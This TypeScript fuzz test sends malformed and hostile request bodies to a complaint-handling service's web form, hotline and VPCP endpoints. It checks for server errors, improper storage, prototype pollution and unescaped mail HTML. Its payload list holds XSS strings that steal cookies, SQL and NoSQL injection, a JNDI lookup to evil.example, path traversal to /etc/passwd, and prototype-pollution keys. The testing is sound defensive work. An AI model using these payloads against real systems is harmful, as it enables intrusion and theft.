/**
 * Bad input, property-based: random and malicious bodies at every public and machine endpoint that
 * takes a PAKN (the web form, the hotline log with an operator token, the VPCP push correctly signed).
 *
 * For every body: no 5xx; a JSON error with a code and a message; a body the schema refuses is
 * never stored (a 2xx only ever answers a body the schema accepts, and the period index grows by
 * exactly the cases answered 201); no prototype pollution. Accepted text comes back unchanged and
 * escaped where it is shown as HTML (the acknowledgement mails).
 *
 * `PAKN_FUZZ_RUNS` sets the bodies per endpoint (default 1,000).
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { DEV_VPCP_SECRET } from '../../../infra/local/stack.ts';
import { escapeHtml } from '../../../shared/app/mail-templates.ts';
import { hotlineCall, vpcpItem, webSubmission } from '../../../shared/domain/schemas.ts';
import { signBody } from '../../../shared/http/hmac.ts';
import { sampleCall, sampleWebCase, startTestStack, type TestStack } from '../../support/stack.ts';
import { receivedCases, sampleVpcpItem } from '../vpcp/support.ts';

const RUNS = Number(process.env.PAKN_FUZZ_RUNS ?? 1000);
const BATCH = 5;

let stack: TestStack;
let operator: string;
let coordinator: string;

beforeAll(async () => {
  stack = await startTestStack();
  operator = await stack.token('operator');
  coordinator = await stack.token('coordinator');
});
afterAll(() => stack?.close());

// --- what we throw ------------------------------------------------------------------------------

const MALICIOUS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  "<svg/onload=alert('xss')>",
  'javascript:alert(1)',
  "'; DROP TABLE cases; --",
  "1' OR '1'='1",
  '" OR ""="',
  '{"$gt": ""}',
  // Log4Shell-style lookup, sent literally.
  `\${jndi:ldap://evil.example/a}`,
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=1',
  '\u202Egnp.exe',
  'Z̷̢̛a̶l̵g̷o̸',
  'Đường <b>hỏng</b> & "nguy hiểm"',
];

const codeUnit = (min: number, max: number) => fc.integer({ min, max }).map((n) => String.fromCharCode(n));

const evilString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...MALICIOUS),
  fc.string({ unit: 'binary', maxLength: 80 }),
  // Control characters, alone or inside text.
  fc.string({ unit: codeUnit(0, 0x1f), minLength: 1, maxLength: 5 }).map((c) => `Nội dung ${c} phản ánh`),
  codeUnit(0x7f, 0x9f).map((c) => `abc${c}def`),
  // Lone surrogates: invalid UTF-16, which no UTF-8 body can carry except as a JSON escape.
  codeUnit(0xd800, 0xdfff).map((s) => `Đường${s}`),
  // Over the field caps (title 200, content 10,000) and over the 64 KB body limit.
  fc.integer({ min: 201, max: 12_000 }).map((n) => 'đ'.repeat(n)),
  fc.constant('x'.repeat(70_000)),
  fc.constantFrom('', ' ', '\n\t ', '\u00A0', '\u200B'),
);

/** Well-formed instants from year 0 to 9999, impossible dates among them: times no calendar can place. */
const oddInstant: fc.Arbitrary<string> = fc.oneof(
  fc
    .tuple(fc.integer({ min: 0, max: 9999 }), fc.integer({ min: 0, max: 13 }), fc.integer({ min: 0, max: 32 }))
    .map(
      ([y, m, d]) =>
        `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}T09:00:00+07:00`,
    ),
  fc
    .date({ min: new Date('0000-01-01T00:00:00Z'), max: new Date('9999-12-31T23:59:59Z'), noInvalidDate: true })
    .map((d) => d.toISOString()),
);

const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
);

/** `[[[…]]]` or `{"a":{"a":…}}`, up to a depth no JSON in the contract needs. */
const deepValue: fc.Arbitrary<unknown> = fc
  .tuple(fc.integer({ min: 50, max: 3_000 }), fc.boolean())
  .map(([depth, arrays]) =>
    JSON.parse(arrays ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
  );

const badValue = fc.oneof(
  { weight: 4, arbitrary: evilString },
  { weight: 3, arbitrary: wrongType },
  { weight: 1, arbitrary: deepValue },
);

const POLLUTING_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'];
const keyArb = fc.oneof(
  fc.constantFrom(...POLLUTING_KEYS, '$where', '<script>', '', 'a.b', 'nguoiGui'),
  fc.string({ maxLength: 12 }),
);

type Json = Record<string, unknown>;
type Path = string[];

/** Every path into the sample (leaves and objects), so a mutation can hit any field at any depth. */
function pathsOf(value: unknown, prefix: Path = []): Path[] {
  if (!value || typeof value !== 'object') return [prefix];
  const own = Object.entries(value as Json).flatMap(([k, v]) => pathsOf(v, [...prefix, k]));
  return prefix.length ? [prefix, ...own] : own;
}
const objectPathsOf = (value: unknown, prefix: Path = []): Path[] =>
  value && typeof value === 'object' && !Array.isArray(value)
    ? [prefix, ...Object.entries(value as Json).flatMap(([k, v]) => objectPathsOf(v, [...prefix, k]))]
    : [];

type Mutation =
  | { op: 'set'; path: Path; value: unknown }
  | { op: 'delete'; path: Path }
  | { op: 'add'; path: Path; key: string; value: unknown };

/** Own, enumerable property even for `__proto__`, so JSON.stringify sends it as a key. */
function put(target: Json, key: string, value: unknown): void {
  // A shallow copy: fast-check hands the same constant object to several mutations, and putting one
  // object inside itself would make the body circular (not JSON at all). Shallow, because some bad
  // values are nested thousands deep on purpose.
  const own = Array.isArray(value) ? [...value] : value !== null && typeof value === 'object' ? { ...value } : value;
  Object.defineProperty(target, key, { value: own, enumerable: true, writable: true, configurable: true });
}

function mutate(sample: Json, mutations: Mutation[]): Json {
  const body = structuredClone(sample);
  for (const m of mutations) {
    const path = m.op === 'add' ? m.path : m.path.slice(0, -1);
    let target: unknown = body;
    for (const k of path) target = target && typeof target === 'object' ? (target as Json)[k] : undefined;
    if (!target || typeof target !== 'object') continue;
    if (m.op === 'add') put(target as Json, m.key, m.value);
    else if (m.op === 'delete') delete (target as Json)[m.path.at(-1) as string];
    else put(target as Json, m.path.at(-1) as string, m.value);
  }
  return body;
}

interface Sent {
  payload: string | Uint8Array<ArrayBuffer>;
  contentType: string;
  /** The JSON value sent, when it was JSON text. */
  value?: unknown;
}

const asJson = (value: unknown): Sent => {
  const payload = JSON.stringify(value) ?? 'null';
  return { payload, contentType: 'application/json', value: JSON.parse(payload) };
};

/**
 * Bodies for one endpoint: mostly the valid sample with one to three fields broken, plus whole-body
 * garbage; `textPaths` are the free-text fields, where hostile but valid text must be kept as typed.
 */
function bodies(sample: Json, textPaths: Path[], timePaths: Path[] = []): fc.Arbitrary<Sent> {
  const paths = pathsOf(sample);
  const objects = objectPathsOf(sample);
  const mutation: fc.Arbitrary<Mutation> = fc.oneof(
    {
      weight: 5,
      arbitrary: fc.record({ op: fc.constant('set' as const), path: fc.constantFrom(...paths), value: badValue }),
    },
    { weight: 2, arbitrary: fc.record({ op: fc.constant('delete' as const), path: fc.constantFrom(...paths) }) },
    {
      weight: 2,
      arbitrary: fc.record({
        op: fc.constant('add' as const),
        path: fc.constantFrom(...objects),
        key: keyArb,
        value: fc.oneof(badValue, fc.constant({ polluted: true, isAdmin: true })),
      }),
    },
  );
  return fc.oneof(
    {
      weight: 12,
      arbitrary: fc.array(mutation, { minLength: 1, maxLength: 3 }).map((ms) => asJson(mutate(sample, ms))),
    },
    // Valid, hostile text (markup, SQL, template syntax): accepted, stored as typed, escaped when shown.
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...textPaths), fc.constantFrom(...MALICIOUS))
        .map(([path, value]) => asJson(mutate(sample, [{ op: 'set', path, value: `Phản ánh ${value}` }]))),
    },
    // The time the deadline runs from, anywhere in years 0–9999.
    ...(timePaths.length
      ? [
          {
            weight: 1,
            arbitrary: fc
              .tuple(fc.constantFrom(...timePaths), oddInstant)
              .map(([path, value]) => asJson(mutate(sample, [{ op: 'set', path, value }]))),
          },
        ]
      : []),
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }).map(asJson) },
    // Prototype pollution written as raw JSON (a JS object literal would set the prototype instead).
    {
      weight: 2,
      arbitrary: fc.constantFrom(...POLLUTING_KEYS).map((k) => {
        const text = JSON.stringify(sample).replace(/^\{/, `{"${k}":{"polluted":true,"isAdmin":true},`);
        return { payload: text, contentType: 'application/json', value: JSON.parse(text) };
      }),
    },
    { weight: 1, arbitrary: deepValue.map(asJson) },
    // Not JSON at all, or JSON under another media type.
    {
      weight: 2,
      arbitrary: fc
        .oneof(
          fc.constantFrom('', '{', '{"title": ', 'null', 'NaN', "{'a': 1}", '{"a":1}{"b":2}', '\uFEFF{}', '"\\ud800"'),
          fc.string({ unit: 'binary', maxLength: 200 }),
        )
        .map((text) => ({ payload: text, contentType: 'application/json' })),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(
          'text/plain',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
          'application/xml',
        )
        .map((contentType) => ({ payload: JSON.stringify(sample), contentType })),
    },
    // Invalid UTF-8 inside an otherwise valid JSON body.
    {
      weight: 1,
      arbitrary: fc.uint8Array({ minLength: 1, maxLength: 8 }).map((junk) => {
        const text = JSON.stringify(sample);
        const at = text.indexOf('":"') + 3;
        const bytes = Buffer.concat([
          Buffer.from(text.slice(0, at)),
          Buffer.from([0xff, 0xfe, ...junk, 0xc0]),
          Buffer.from(text.slice(at)),
        ]);
        return { payload: new Uint8Array(bytes), contentType: 'application/json' };
      }),
    },
  );
}

// --- how we judge -------------------------------------------------------------------------------

interface Endpoint {
  name: string;
  path: string;
  bodies: fc.Arbitrary<Sent>;
  schema: z.ZodType;
  headers(sent: Sent): Record<string, string>;
  /** Refusals allowed for a body the schema accepts (business rules beyond the schema). */
  acceptedRefusals: Array<{ status: number; fields: string[] }>;
}

interface Outcome {
  status: number;
  body: { code?: string; error?: { code: unknown; message: unknown; fields?: unknown } };
  contentType: string;
}

async function send(endpoint: Endpoint, sent: Sent): Promise<Outcome> {
  const r = await fetch(stack.url + endpoint.path, {
    method: 'POST',
    headers: { 'content-type': sent.contentType, ...endpoint.headers(sent) },
    body: sent.payload,
  });
  const text = await r.text();
  let body: Outcome['body'];
  try {
    body = JSON.parse(text);
  } catch {
    throw new Error(`${endpoint.name}: ${r.status} answer is not JSON: ${text.slice(0, 200)}`);
  }
  return { status: r.status, body, contentType: r.headers.get('content-type') ?? '' };
}

const accepts = (schema: z.ZodType, value: unknown): boolean => value !== undefined && schema.safeParse(value).success;

const countStored = async () =>
  (await receivedCases(stack, '2021-06-01T00:00:00+07:00', '2027-01-01T00:00:00+07:00')).length;

const stats = new Map<string, Record<string, number>>();
/** Web cases the fuzz created, with the body each came from: their mails are checked last. */
let webCreated = new Map<string, Json>();
/** Each fuzz test sends RUNS bodies; its time grows with RUNS, so its timeout does too. */
const FUZZ_TIMEOUT_MS = 60_000 + RUNS * 100;

/** Fuzz one endpoint; returns the cases it created, each with the body that created it. */
async function fuzz(endpoint: Endpoint): Promise<Map<string, Json>> {
  const created = new Map<string, Json>();
  const tally: Record<string, number> = {};
  stats.set(endpoint.name, tally);
  /** One body: sent, then judged. */
  async function check(sent: Sent): Promise<void> {
    const out = await send(endpoint, sent);
    tally[out.status] = (tally[out.status] ?? 0) + 1;
    expect(out.status, JSON.stringify(out.body)).toBeLessThan(500);
    expect(out.contentType).toMatch(/^application\/json/);
    const valid = accepts(endpoint.schema, sent.value);
    if (out.status < 300) {
      expect(valid, `${endpoint.name} accepted a body its schema refuses`).toBe(true);
      expect(out.body.code).toMatch(/^QNG-\d{2}-[2-9A-HJKMNP-TV-Z]{6}$/);
      if (out.status === 201) created.set(out.body.code as string, sent.value as Json);
      return;
    }
    expect(out.status).toBeGreaterThanOrEqual(400);
    expect(out.body.error?.code).toEqual(expect.any(String));
    expect(out.body.error?.message).toEqual(expect.any(String));
    if (valid && out.status !== 413) {
      const fields = ((out.body.error?.fields ?? []) as Array<{ field: string }>).map((f) => f.field);
      const allowed = endpoint.acceptedRefusals.some(
        (r) => r.status === out.status && fields.length > 0 && fields.every((f) => r.fields.includes(f)),
      );
      expect(allowed, `${endpoint.name} refused a valid body: ${out.status} ${JSON.stringify(out.body)}`).toBe(true);
    }
  }
  // Bodies go in small concurrent batches: the server overlaps its waits on the store and on SES,
  // and concurrent bodies sharing an idempotency key (the same mã PAKN) get exercised as well.
  await fc.assert(
    fc.asyncProperty(fc.array(endpoint.bodies, { minLength: BATCH, maxLength: BATCH }), async (batch) => {
      await Promise.all(batch.map(check));
    }),
    { numRuns: Math.ceil(RUNS / BATCH) },
  );
  return created;
}

/** Codes checked against the directory after the schema: a well-formed but unknown one may be refused. */
const referenceRefusal = (...fields: string[]) => ({ status: 422, fields });

const webEndpoint: Endpoint = {
  name: 'POST /v1/cases',
  path: '/v1/cases',
  bodies: bodies(sampleWebCase() as Json, [['title'], ['content'], ['submitter', 'name'], ['submitter', 'address']]),
  schema: webSubmission,
  headers: () => ({}),
  acceptedRefusals: [referenceRefusal('categoryCode', 'procedureCode', 'localityCode')],
};

const hotlineEndpoint = (): Endpoint => ({
  name: 'POST /v1/hotline/calls',
  path: '/v1/hotline/calls',
  bodies: bodies(sampleCall() as Json, [['content'], ['caller', 'name'], ['caller', 'address']], [['calledAt']]),
  schema: hotlineCall,
  headers: () => ({ authorization: `Bearer ${operator}` }),
  acceptedRefusals: [referenceRefusal('calledAt', 'categoryCode', 'localityCode')],
});

const vpcpEndpoint: Endpoint = {
  name: 'POST /v1/integrations/vpcp/items',
  path: '/v1/integrations/vpcp/items',
  // A few mã PAKN shared by many bodies: new items, replays and conflicting resends all happen.
  // A recent ngày gửi, so that a body the schema accepts is one the system may register.
  bodies: fc
    .integer({ min: 0, max: 6 })
    .chain((i) =>
      bodies(
        sampleVpcpItem({ maPakn: `VPCP-FUZZ-${i}`, ngayGui: new Date(Date.now() - 86_400_000).toISOString() }) as Json,
        [['tieuDe'], ['noiDung'], ['nguoiGui', 'hoTen'], ['nguoiGui', 'diaChi']],
        [['ngayGui']],
      ),
    ),
  schema: vpcpItem,
  headers: (sent) => ({ 'x-signature': signBody(DEV_VPCP_SECRET, Buffer.from(sent.payload)) }),
  acceptedRefusals: [{ status: 409, fields: ['maPakn'] }, referenceRefusal('ngayGui', 'linhVuc')],
};

describe(`bad input, ${RUNS} bodies per endpoint`, () => {
  it('the web form: no 5xx, nothing stored from invalid input', { timeout: FUZZ_TIMEOUT_MS }, async () => {
    const before = await countStored();
    const created = await fuzz(webEndpoint);
    webCreated = created;
    expect(await countStored()).toBe(before + created.size);
    // Accepted text is kept as sent (NFC, trimmed): nothing stripped silently, markup included.
    for (const [code, sent] of created) {
      const shown = await stack.api('GET', `/v1/cases/${code}`, { token: coordinator });
      expect(shown.json.title).toBe(String(sent.title).normalize('NFC').trim());
      expect(shown.json.content).toBe(String(sent.content).normalize('NFC').trim());
      expect(shown.headers.get('content-type')).toMatch(/^application\/json/);
    }
  });

  it('the hotline log (operator): no 5xx, nothing stored from invalid input', {
    timeout: FUZZ_TIMEOUT_MS,
  }, async () => {
    const before = await countStored();
    const created = await fuzz(hotlineEndpoint());
    expect(await countStored()).toBe(before + created.size);
  });

  it('the VPCP push (correctly signed): no 5xx, nothing stored from invalid input', {
    timeout: FUZZ_TIMEOUT_MS,
  }, async () => {
    const before = await countStored();
    const created = await fuzz(vpcpEndpoint);
    expect(await countStored()).toBe(before + created.size);
  });

  it('left no prototype polluted', () => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it('escapes every accepted text where it is shown as HTML (acknowledgement mails)', async () => {
    const mails = await stack.mails();
    // Hostile titles among the accepted web bodies: each one's mail holds it escaped, never raw.
    for (const [code, sent] of webCreated) {
      const title = String(sent.title).normalize('NFC').trim();
      const mail = mails.find((m) => m.subject.includes(code));
      if (!mail) continue; // no email given, or the mail failed and stays in the outbox
      expect(mail.body.html).toContain(escapeHtml(title));
      if (/[<>&"']/.test(title)) expect(mail.body.html).not.toContain(title);
      expect(mail.body.text).toContain(title);
    }
    const allowed = new Set(['!doctype', 'html', 'head', 'meta', 'title', 'body', 'p']);
    for (const m of mails) {
      const tags = [...m.body.html.matchAll(/<\/?\s*([!a-zA-Z][\w-]*)/g)].map((t) => (t[1] as string).toLowerCase());
      expect(
        tags.filter((t) => !allowed.has(t)),
        m.subject,
      ).toEqual([]);
    }
    console.info(
      `fuzz: ${RUNS} bodies per endpoint; statuses ${JSON.stringify(Object.fromEntries(stats))}; ${mails.length} mails checked`,
    );
  });
});
